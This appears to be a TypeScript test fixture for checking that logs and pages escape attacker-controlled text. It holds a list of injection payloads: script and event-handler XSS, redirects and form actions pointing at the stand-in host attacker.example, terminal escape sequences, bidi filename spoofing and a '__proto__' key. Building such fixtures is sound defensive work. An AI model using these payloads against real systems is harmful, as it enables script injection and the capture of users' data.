/** Texts an attacker would choose for a user name, device, application or user agent. */

export const payloads: readonly string[] = [
  '<script>globalThis.pwned=1</script>',
  '</script><script>globalThis.pwned=1</script>',
  '</style><style>*{display:none}</style>',
  '<style>@import url(https://attacker.example/x.css)</style>',
  '"><img src=https://attacker.example/x onerror=globalThis.pwned=1>',
  "' onmouseover='globalThis.pwned=1",
  '" autofocus onfocus="globalThis.pwned=1" x="',
  '` onfocus=`globalThis.pwned=1',
  '<svg onload=globalThis.pwned=1>',
  '</title><script>globalThis.pwned=1</script>',
  '<!--<script>globalThis.pwned=1</script>-->',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:globalThis.pwned=1">x</a>',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href=https://attacker.example/>',
  '<form action=https://attacker.example/><button>',
  '&lt;script&gt;&#x3c;img src=x&#62;',
  '\u001b[2J\u001b[31m\u001b]0;owned\u0007\u009b31m',
  '\u001b]8;;https://attacker.example\u001b\\link\u001b]8;;\u001b\\',
  'line\r\nbreak\u2028and\u2029more\u0000\u0008\u007f',
  '\u202egnp.exe\u202c\u2066\u2067\u200f\u061c',
  `a${'\u0301'.repeat(200)}`,
  '\ud800 lone \udfff',
  '漢字の名前とても長い名前です絵文字👩🏽‍🚒🇳🇴',
  'x'.repeat(5000),
  '__proto__',
];

/** `value` with every text in it replaced: what a log would look like if all of it were chosen by an attacker. */
export function poisoned<T>(value: T, choose: (text: string) => string): T;
export function poisoned(value: unknown, choose: (text: string) => string): unknown {
  if (typeof value === 'string') return choose(value);
  if (Array.isArray(value)) return value.map((item) => poisoned(item, choose));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, poisoned(item, choose)]));
}
